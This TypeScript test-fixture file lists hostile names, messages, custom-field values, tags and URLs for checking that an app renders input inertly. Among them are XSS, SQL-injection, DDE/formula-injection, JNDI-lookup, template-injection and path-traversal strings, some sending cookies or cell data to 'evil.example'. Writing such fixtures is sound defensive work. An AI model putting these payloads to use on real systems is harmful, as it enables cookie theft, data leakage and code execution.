/**
 * Text a hostile or careless end user may type: markup, scripts, bidi overrides, invisible
 * and control characters (never NUL), huge strings, formulas for spreadsheets, SQL. Every
 * string here passes the entity schemas; the app must show it inertly and store it as is.
 */

const LONG_NAME_UNIT = 'Wolfeschlegelsteinhausenbergerdorff ';
/** About 2 KB. */
export const LONG_NAME = ('Hubert Blaine ' + LONG_NAME_UNIT.repeat(56)).trimEnd();

/** [first_name, last_name] pairs. */
export const HOSTILE_NAMES: ReadonlyArray<readonly [string, string | null]> = [
  ['<img src=x onerror=alert(1)>', 'Smith'],
  ['<script>alert("xss")</script>', null],
  ["Robert'); DROP TABLE contacts;--", 'Tables'],
  ["' OR '1'='1", 'Injection'],
  ['Ann\u202Egnp.exe', 'Override'],
  ['\u202Bمريم\u202C', '\u202Dsmith\u202C'],
  ['Jo\u200Bhn', 'Do\u200De\uFEFF'],
  ['\u2060\u200C', '\u200B'],
  ['Bell\u0007Ringer', 'Esc\u001b[31mRed\u001b[0m'],
  ['Back\bspace\u007F', 'Tab\tbed'],
  ['Line\r\nBreak', 'Set-Cookie: session=1'],
  [LONG_NAME, 'Sr.'],
  ['Z\u0337\u0322a\u0338\u034el\u0335g\u0336o\u0334', 'T\u0338\u0328e\u0337x\u0335t\u0336'],
  ['👩‍👩‍👧‍👦 Family', '🇺🇦🏳️‍🌈'],
  ['😀😃😄😁😆😅😂🤣', '🦄'],
  ['=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', 'Formula'],
  ["+cmd|' /C calc'!A0", 'Plus'],
  ['@SUM(1+1)*cmd', '-2+3'],
  ['<a href="javascript:alert(document.cookie)">click</a>', 'Link'],
  ['{{7*7}}', '${7*7}'],
  ['../../../etc/passwd', 'Traversal'],
  ['null', 'undefined'],
  ['  Spaces  ', '\u00a0Nbsp\u00a0'],
  ['<b>Bold</b> <i>Italic</i>', '&lt;escaped&gt; &amp;'],
];

const BIG_UNIT = 'This is a very long message pasted into the chat. ';
/** A 50 KB message (built once; every use shares the same string). */
export const BIG_MESSAGE = BIG_UNIT.repeat(Math.ceil(51_200 / BIG_UNIT.length)).slice(0, 51_200);

export const HOSTILE_MESSAGES: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example" style="position:fixed;inset:0"></iframe>',
  '[Track my order](javascript:alert(document.domain))',
  'javascript:alert(1)',
  '<a href="javascript:void(0)" onclick="alert(1)">my order</a>',
  "'; DROP TABLE messages; --",
  '1 OR 1=1; SELECT * FROM contacts WHERE email LIKE \'%\'',
  'Order ‮#1234‬ please refund',
  'Hi\u200B\u200B\u200B there\u200D\u2060',
  'bell\u0007 escape\u001b[2J\u001b[H clear screen',
  'form\u000cfeed and vertical\u000btab',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  '=cmd|\' /C calc\'!A0',
  'Z\u0337\u0322\u0328a\u0338\u034e\u0353l\u0335\u0317g\u0336\u031co\u0334\u0359 text with combining marks',
  '🔥🔥🔥 URGENT 🔥🔥🔥 👩🏽‍💻🧑🏿‍🚀',
  '{{constructor.constructor("alert(1)")()}}',
  '${jndi:ldap://evil.example/a}',
  '<!-- comment --><style>body{display:none}</style>',
  '**bold** _italic_ `code` [link](https://example.com) <u>html</u>',
  'مرحبا\u202Eabc\u202C שלום mixed directions',
];

/** Custom field values: [field key, value]. */
export const HOSTILE_FIELDS: ReadonlyArray<readonly [string, string]> = [
  ['company', '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'],
  ['company', '<script>alert("company")</script>'],
  ['website', 'javascript:alert(document.domain)'],
  ['website', 'data:text/html,<script>alert(1)</script>'],
  ['job_title', '<b onmouseover=alert(1)>CEO</b>'],
  ['job_title', '+SUM(A1:A9)'],
];

export const HOSTILE_TAGS = ['<b>vip</b>', '🔥 hot lead', 'tag\u202Eesrever', '=1+1', "o'reilly"];

export const HOSTILE_URLS = ['javascript:alert(document.cookie)', 'https://www.lumo-home.com/search?q=<script>alert(1)</script>', 'https://evil.example/\u202Eexe.pdf'];
